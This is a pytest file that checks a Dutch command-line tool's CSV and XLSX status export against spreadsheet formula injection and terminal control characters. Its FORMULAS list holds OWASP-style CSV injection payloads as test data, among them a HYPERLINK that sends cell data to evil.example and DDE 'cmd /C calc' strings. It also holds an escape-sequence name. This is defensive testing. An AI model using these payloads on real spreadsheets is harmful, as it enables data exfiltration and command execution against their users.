"""status as a sheet: CSV that Python's csv reads back to exactly status --json, and a workbook that openpyxl opens."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

from conftest import RECORD, REPO, build_tree

from doetank_cli.workspace import Workspace


def examples(ws: Workspace) -> None:
    shutil.copytree(REPO / "tanks", ws.tanks, dirs_exist_ok=True)
    # a name with everything CSV must quote, and one a spreadsheet would take for a formula
    build_tree(
        ws.root,
        {
            "tanks/lastig/doetank.yaml": RECORD.replace(
                "naam: Slimmer vergaderen", 'naam: "Komma, \\"quote\\" en\\nregel"'
            ),
            "tanks/formule/doetank.yaml": RECORD.replace("naam: Slimmer vergaderen", "naam: \"=HYPERLINK('x')\""),
        },
    )


def as_text(value: object) -> str:
    return "" if value is None else str(value)


def as_cell(value: object) -> str:
    """What a CSV cell holds: the text, with an apostrophe before text a spreadsheet would run as a formula."""
    text = as_text(value)
    return "'" + text if isinstance(value, str) and text.lstrip(" ")[:1] in ("=", "+", "-", "@") else text


#: cells Excel, LibreOffice or Google Sheets would run (OWASP's CSV injection list, and a few of its disguises)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def formula_tanks(ws: Workspace) -> None:
    """A tank for each formula, as its name, and as its trekker, coach and opdrachtgever."""
    files = {}
    for number, formula in enumerate(FORMULAS):
        record = RECORD.replace("naam: Slimmer vergaderen", f"naam: {json.dumps(formula)}")
        for name in ("Anna de Vries", "Cor Smit", "Karin Jansen"):
            record = record.replace(f"naam: {name}", f"naam: {json.dumps(formula + name)}")
        files[f"tanks/formule-{number}/doetank.yaml"] = record
    build_tree(ws.root, files)


def test_csv_never_hands_a_spreadsheet_a_formula(ws: Workspace, run) -> None:
    formula_tanks(ws)
    expected = json.loads(run("status", "--json").stdout)
    assert {item["naam"] for item in expected} == set(FORMULAS)  # the names are what the records say
    result = run("status", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8"), newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for key in ("naam", "trekker", "coach", "opdrachtgever"):
            assert row[key].startswith("'"), (key, row[key])  # text to every spreadsheet
        assert row["naam"][1:] in FORMULAS  # and otherwise the name as it is
        assert row["fase_nummer"] == "1"  # numbers stay numbers


def test_xlsx_marks_formula_like_text_so_that_editing_the_cell_keeps_it_text(
    ws: Workspace, run, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    formula_tanks(ws)
    target = tmp_path / "doetanks.xlsx"
    assert run("status", "--format", "xlsx", "--output", str(target)).exit_code == 0
    sheet = load_workbook(target).active
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    # no apostrophe in the value (XML reads a carriage return as a line feed)
    assert {cell.value for cell in names} == {formula.replace("\r\n", "\n") for formula in FORMULAS}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)


def test_control_characters_in_a_name_are_shown_as_escapes_in_csv_and_xlsx(ws: Workspace, run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    name = "A\x01B\x1b]0;PWNED\x07\x1b[31mC\u202eD"
    build_tree(
        ws.root, {"tanks/ctl/doetank.yaml": RECORD.replace("naam: Slimmer vergaderen", f"naam: {json.dumps(name)}")}
    )
    shown = "A\\x01B\\x1b]0;PWNED\\x07\\x1b[31mC\\u202eD"  # as status shows it on the terminal
    result = run("status", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert b"\x1b" not in result.stdout_bytes and b"\x07" not in result.stdout_bytes
    assert next(csv.DictReader(io.StringIO(result.stdout, newline="")))["naam"] == shown
    target = tmp_path / "doetanks.xlsx"
    result = run("status", "--format", "xlsx", "--output", str(target))
    assert result.exit_code == 0, result.output  # was a crash: openpyxl refuses control characters
    assert load_workbook(target).active["B2"].value == shown


def test_csv_has_exactly_the_keys_and_values_of_status_json(ws: Workspace, run) -> None:
    examples(ws)
    expected = json.loads(run("status", "--json").stdout)
    result = run("status", "--format", "csv")
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes
    assert raw.count(b"\r\n") == len(expected) + 1 and b"\r\r\n" not in raw  # the header and each record
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert [list(row) for row in rows] == [list(item) for item in expected]
    assert rows == [{key: as_cell(value) for key, value in item.items()} for item in expected]
    assert any(row["naam"] == 'Komma, "quote" en\nregel' for row in rows)


def test_json_and_the_json_format_are_one_and_the_same(ws: Workspace, run) -> None:
    examples(ws)
    assert run("status", "--format", "json").stdout == run("status", "--json").stdout


def test_xlsx_opens_in_openpyxl_with_the_same_rows_and_no_formulas(ws: Workspace, run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    examples(ws)
    expected = json.loads(run("status", "--json").stdout)
    target = tmp_path / "doetanks.xlsx"
    result = run("status", "--format", "xlsx", "--output", str(target))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(expected[0])
    assert [dict(zip(rows[0], row, strict=True)) for row in rows[1:]] == expected
    formula = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "=HYPERLINK('x')")
    assert formula[1].data_type == "s"  # text, never a formula Excel would run


def test_xlsx_without_output_is_a_usage_error_that_says_what_to_add(ws: Workspace, run) -> None:
    result = run("status", "--format", "xlsx")
    assert result.exit_code == 2 and "--output" in result.stderr
    assert result.stdout == ""


def test_one_tank_as_csv_is_one_row(tank: str, run) -> None:
    rows = list(csv.DictReader(io.StringIO(run("status", tank, "--format", "csv").stdout, newline="")))
    assert [row["slug"] for row in rows] == [tank]


def test_csv_to_a_file_is_the_same_as_to_the_screen(ws: Workspace, run, tmp_path: Path) -> None:
    examples(ws)
    target = tmp_path / "doetanks.csv"
    assert run("status", "--format", "csv", "--output", str(target)).exit_code == 0
    assert target.read_bytes() == run("status", "--format", "csv").stdout_bytes
